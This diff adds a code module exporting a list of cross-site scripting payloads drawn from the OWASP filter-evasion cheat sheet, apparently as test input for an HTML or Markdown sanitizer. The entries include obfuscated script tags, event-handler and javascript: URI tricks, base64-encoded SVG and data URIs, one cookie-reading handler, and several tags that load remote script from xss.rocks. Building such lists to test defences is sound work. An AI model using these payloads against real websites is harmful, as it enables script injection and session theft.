@@ -1,0 +1,20 @@
+/** Payloads after the OWASP XSS filter-evasion cheat sheet. */
+export const XSS = [
+  '<script>alert(1)</script>', '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>', '<IMG SRC="javascript:alert(\'XSS\');">', '<IMG SRC=javascript:alert(\'XSS\')>',
+  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>', '<a onmouseover="alert(document.cookie)">xxs link</a>',
+  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', '<IMG SRC=# onmouseover="alert(\'xxs\')">', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
+  '<IMG SRC="jav\tascript:alert(\'XSS\');">', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">', '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
+  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', '<<SCRIPT>alert("XSS");//<</SCRIPT>',
+  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >', '<iframe src=http://xss.rocks/scriptlet.html <', '\\";alert(\'XSS\');//', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
+  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">', '<BODY BACKGROUND="javascript:alert(\'XSS\')">', '<IMG DYNSRC="javascript:alert(\'XSS\')">',
+  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>', '<svg/onload=alert(\'XSS\')>', '<BODY ONLOAD=alert(\'XSS\')>',
+  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
+  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">', '<DIV STYLE="width: expression(alert(\'XSS\'));">',
+  '<BASE HREF="javascript:alert(\'XSS\');//">', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
+  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+  '[click me](javascript:alert(1))', '[click me](JaVaScRiPt:alert(1))', '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>', '"><script>alert(1)</script>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '`<img src=x onerror=alert(1)>`', '**<img src=x onerror=alert(1)>**', '> <script>alert(1)</script>', 'https://example.com/"onmouseover="alert(1)',
+  'https://example.com/<script>alert(1)</script>', '<style>@import\'javascript:alert(1)\';</style>',
+];
